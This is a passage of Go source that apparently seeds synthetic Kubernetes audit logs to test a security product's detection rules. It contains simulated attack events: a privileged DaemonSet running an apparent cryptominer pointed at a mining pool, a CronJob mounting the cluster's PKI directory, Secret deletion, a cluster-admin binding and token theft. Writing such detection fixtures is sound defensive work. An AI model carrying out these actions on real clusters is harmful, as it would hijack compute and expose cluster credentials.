				`"volumes":[{"name":"pki","hostPath":{"path":"/etc/kubernetes/pki","type":"Directory"}}],"restartPolicy":"OnFailure"}}}}}}`},
		{ago: 5*hour + 10*minute + 24*second, host: 0, id: "edcfa13d-5a87-4fa3-84e4-5c40d124150e", level: "RequestResponse", who: labBackupSA, verb: "create",
			uri: "/apis/apps/v1/namespaces/default/daemonsets" + applied, ref: labRef("apps", "daemonsets", "default", "node-agent", ""), code: 201,
			body: `{"kind":"DaemonSet","apiVersion":"apps/v1","metadata":{"name":"node-agent","namespace":"default"` + storedMark + `},"spec":{` +
				`"selector":{"matchLabels":{"app":"node-agent"}},"template":{"metadata":{"labels":{"app":"node-agent"}},"spec":{"containers":[{"name":"agent",` +
				`"image":"registry.example.com/cni-tools/node-agent:1.0","args":["--donate-level=0","-o","pool.example.net:3333"],` +
				`"securityContext":{"privileged":true},"resources":{"limits":{"cpu":"2"}}}],"tolerations":[{"operator":"Exists"}]}}}}`},
		// A record that claims to be an audit event and is malformed: its
		// verb twice, delete and get (a reader keeping the last key would see
		// a get).
		{ago: 4*hour + 0*minute + 38*second, host: 1, id: "6832ee48-2b79-4d37-9db1-4a2dd0a887f2", level: "RequestResponse", who: labBackupSA, verb: "delete",
			uri: "/api/v1/namespaces/web/secrets/web-db-credentials", ref: labRef("", "secrets", "web", "web-db-credentials", ""), code: 200, dupVerb: "get",
			resp: `{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Success","details":{"name":"web-db-credentials","kind":"secrets","uid":"` +
				uuidFrom("sec-lab/secret/web/web-db-credentials") + `"}}`},
		// The API server's own log line: free text.
		{ago: 3*hour + 0*minute + 21*second, host: 0, text: "W" + klogTime +
			`      11 dispatcher.go:217] Failed calling webhook, failing open policy.example.com: failed calling webhook "policy.example.com": ` +
			`failed to call webhook: Post "https://policy-webhook.kube-system.svc:443/validate?timeout=10s": context deadline exceeded`},
		{ago: 2*hour + 0*minute + 45*second, host: 2, id: "0b2259a6-9013-4b7c-844a-48041613e34b", who: labDave, verb: "list",
			uri: "/api/v1/nodes?limit=500", ref: labRef("", "nodes", "", "", ""), code: 200},
		{ago: 1*hour + 30*minute + 12*second, host: 1, id: "3076a5db-7f1d-4daa-b808-68d058e533b8", who: labErin, verb: "get",
			uri: "/apis/apps/v1/namespaces/web/deployments/web-frontend", ref: labRef("apps", "deployments", "web", "web-frontend", ""), code: 200},
		{ago: 20*minute + 4*second, host: 0, id: "535c3134-8f98-4d87-89da-f2cf7eebc1b1", who: labKCM, verb: "update",
			uri: "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-controller-manager?timeout=5s",
			ref: labRef("coordination.k8s.io", "leases", "kube-system", "kube-controller-manager", ""), code: 200},
	}
}

// SeedFindings returns sec-lab's records (SeedFindingsClusterID): a day of
// a self-managed cluster, all within the 24 hours before now and at
// distinct times, deterministic for a given now. Among routine traffic,
// every rule of hss_cluster_audit_findings fires on known events, beside
// near-misses that must not, with allowed_usernames =
// ["system:serviceaccount:ci:*"] and trusted_images =
// ["registry.example.com/cni/*"]:
//
//   - pod_exec: mallory@example.com's exec (audited at RequestReceived and
//     ResponseComplete: one finding) and erin@example.com's port-forward
//     over WebSocket (verb get); not erin's pods/log, nor the CI robot's
//     exec (allowed).
//   - secret_access: mallory's refused list of every Secret, and the web
//     front end's service account reading the database's Secret; not the
//     CI robot's read (allowed), nor the kubelet's (the control plane).
//   - cluster_admin_binding: mallory's ClusterRoleBinding of
//     backup-operator to cluster-admin; not dave@example.com's RoleBinding
//     to view.
//   - wildcard_role: dave's Role web-oncall (verbs *); not his Role
//     pod-reader (get, list, watch).
//   - anonymous_request: a scanner's refused list of pods; not the load
//     balancer's /healthz.
//   - privileged_pod: backup-operator's DaemonSet node-agent (image
//     registry.example.com/cni-tools/...); not the CNI's pod (image
//     registry.example.com/cni/..., exempt), nor erin's pod with
//     privileged false.
//   - host_namespace_pod: backup-operator's pod netshoot (hostNetwork); not
//     erin's pod with shareProcessNamespace.
//   - sensitive_mount_pod: backup-operator's CronJob etcd-backup (hostPath
//     /etc/kubernetes/pki); not the log shipper's pod (hostPath /var/log).
//   - kube_system_change: dave's patch of ConfigMap kube-system/coredns; not
//     his get of it, nor the leader-election lease updates.
//   - token_request: mallory's token for backup-operator; not the kubelet's
//     (system:node:node-1) for a pod.
//   - malformed: an event with its verb key twice; not the API server's log
//     line (free text), nor an event exporter's Kubernetes Event (JSON, not
//     an audit event).
//
// The Secrets read at RequestResponse level hold their data
// (SeedFindingsSecretData), which never reaches a finding.
func SeedFindings(now time.Time) []Record {
	day := secLabDay(now)
	out := make([]Record, 0, len(day))
	received := map[string]time.Time{} // audit ID: the time of its RequestReceived stage
	for i, e := range day {
		// Sub-second jitter; events are at least a second apart, so the
		// times stay distinct and in order.
		t := now.Add(-e.ago + time.Duration(i*7919%1000)*time.Millisecond)
		if e.stage == "RequestReceived" {
			received[e.id] = t
		} else if r, ok := received[e.id]; ok {
			e.took = t.Sub(r) // the request's later stage: received when its first was
		}
		content := strings.Replace(e.text, klogTime, t.UTC().Format("0102 15:04:05.000000"), 1)
		if content == "" {
			content = e.render(t, i)
		}
		h := secLabHosts[e.host]
		out = append(out, Record{ClusterName: SeedFindingsClusterName, ClusterID: SeedFindingsClusterID, ClusterType: SeedFindingsClusterType,
			HostID: h.id, HostName: h.name, HostIP: h.ip, Content: content, Time: t.UnixMilli()})
	}
	return out
}
